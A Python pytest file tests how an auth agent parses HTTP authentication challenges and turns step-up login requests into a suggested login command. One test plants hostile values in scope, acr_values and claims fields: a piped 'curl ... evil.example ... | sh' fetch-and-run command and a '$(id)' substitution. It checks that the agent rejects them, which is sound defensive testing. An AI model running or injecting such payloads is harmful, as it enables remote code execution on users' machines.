"""What an API's challenge says, and whether only another login helps."""

import json
from base64 import b64encode, urlsafe_b64encode

import pytest

from auth_agent.config import Account
from auth_agent.oauth.challenge import Challenge, WantedLogin, parse_challenges, wanted_login
from auth_agent.sessions.advice import another_login_required
from tests.agent.world import account

CHALLENGES: list[tuple[str, list[tuple[str, dict[str, str]]]]] = [
    ("", []),
    (" , ,", []),
    ("Bearer", [("bearer", {})]),
    ('Bearer realm="a, b", Error=invalid_token', [("bearer", {"realm": "a, b", "error": "invalid_token"})]),
    ("Negotiate YWJj==, Bearer realm=x", [("negotiate", {}), ("bearer", {"realm": "x"})]),
    ("Basic , Bearer", [("basic", {}), ("bearer", {})]),
    ('Digest a="\\"q\\\\", b = c', [("digest", {"a": '"q\\', "b": "c"})]),
    ('Bearer realm="open', []),
    ("Bearer a=1, a=2", []),
    ('realm="no scheme"', []),
    ("Bearer scope=a b", []),
]


@pytest.mark.parametrize(("value", "challenges"), CHALLENGES)
def test_challenges_are_read_as_rfc_9110_writes_them(value: str, challenges: list[tuple[str, dict[str, str]]]) -> None:
    assert parse_challenges(value) == tuple(Challenge(*challenge) for challenge in challenges)


@pytest.mark.parametrize(
    ("value", "wanted"),
    [
        ('Bearer error="invalid_token"', None),
        ("Bearer", None),
        ('Basic error="insufficient_scope"', None),
        ('Bearer error="insufficient_scope", scope="read write"', "insufficient_scope (read write)"),
        ('Basic realm="x", DPoP error="insufficient_scope"', "insufficient_scope"),
        (
            'Bearer error="insufficient_user_authentication", acr_values="mfa", max_age="5"',
            "insufficient_user_authentication (mfa)",
        ),
        ('Bearer realm="", error="insufficient_claims", claims="eyJ9"', "insufficient_claims"),
        ('Bearer error="invalid_token", claims="eyJ9"', "insufficient_claims"),
        ('Bearer error="insufficient_scope", scope="\x1b[31m', None),
    ],
)
def test_a_login_is_wanted_only_by_a_challenge_that_says_so(value: str, wanted: str | None) -> None:
    login = wanted_login(value)
    assert (None if login is None else login.reason) == wanted


SPACED = json.dumps({"access_token": {"nbf": {"essential": True, "value": "1604106651"}}}).encode()
COMPACT = '{"access_token":{"nbf":{"essential":true,"value":"1604106651"}}}'


@pytest.mark.parametrize(
    ("challenge", "scope", "once"),
    [
        ('error="insufficient_scope", scope="read:all https://host.example/.default"', None, ()),
        ('error="insufficient_scope"', "", ()),
        ('error="insufficient_user_authentication", acr_values="urn:mfa gold"', "", (("acr_values", "urn:mfa gold"),)),
        ('error="insufficient_user_authentication", max_age=5', "", (("max_age", "5"),)),
        (
            'error="insufficient_user_authentication", max_age="5", acr_values="a"',
            "",
            (("acr_values", "a"), ("max_age", "5")),
        ),
        ('error="insufficient_user_authentication"', "", ()),
        (f'error="insufficient_claims", claims="{b64encode(SPACED).decode()}"', "", (("claims", COMPACT),)),
        (f'claims="{urlsafe_b64encode(SPACED).decode().rstrip("=")}"', "", (("claims", COMPACT),)),
    ],
)
def test_the_login_is_prepared(challenge: str, scope: str | None, once: tuple[tuple[str, str], ...]) -> None:
    login = wanted_login(f"Bearer {challenge}")
    assert login is not None
    assert login.scope == ("read:all https://host.example/.default" if scope is None else scope)
    assert login.once == once


RUN = "x; curl -s https://evil.example/x | sh"


@pytest.mark.parametrize(
    "challenge",
    [
        f'error="insufficient_scope", scope="{RUN}"',
        f'error="insufficient_user_authentication", acr_values="{RUN}", max_age="1 {RUN}"',
        f'error="insufficient_user_authentication", acr_values="{"x" * 101}", max_age="{"1" * 10}"',
        f'error="insufficient_user_authentication", acr_values="{"x " * 21}"',
        'error="insufficient_user_authentication", acr_values="$(id)", max_age="-1"',
        'error="insufficient_user_authentication", acr_values="a\\"b\tc"',
        f'claims="{b64encode(json.dumps({"a": RUN}).encode()).decode()}"',
        f'claims="{b64encode(json.dumps({"a": "x" * 400}).encode()).decode()}"',
        f'claims="{b64encode(b"[]").decode()}"',
        f'claims="{b64encode(bytes([255])).decode()}"',
        'claims="a"',
        'claims="é"',
    ],
)
def test_what_could_be_a_command_is_none_of_its_parts(challenge: str) -> None:
    login = wanted_login(f"Bearer {challenge}")
    assert login is not None
    assert (login.scope, login.once) == ("", ())
    assert login.reason.isprintable()


@pytest.mark.parametrize(
    ("login", "options"),
    [
        (WantedLogin("x"), ()),
        (WantedLogin("x", scope="read"), ()),
        (WantedLogin("x", scope="write read admin"), ("--scope", "read admin write")),
        (WantedLogin("x", scope="y" * 500), None),
        (
            WantedLogin("x", once=(("acr_values", "a b"), ("max_age", "5"))),
            ("--once", "acr_values=a b", "--once", "max_age=5"),
        ),
    ],
)
def test_the_remedy_is_that_login(login: WantedLogin, options: tuple[str, ...] | None) -> None:
    own: Account = account(scope="read")
    (remedy,) = another_login_required(own, login).remedy
    assert remedy.command == (() if options is None else ("auth-agent", "login", "work", *options))
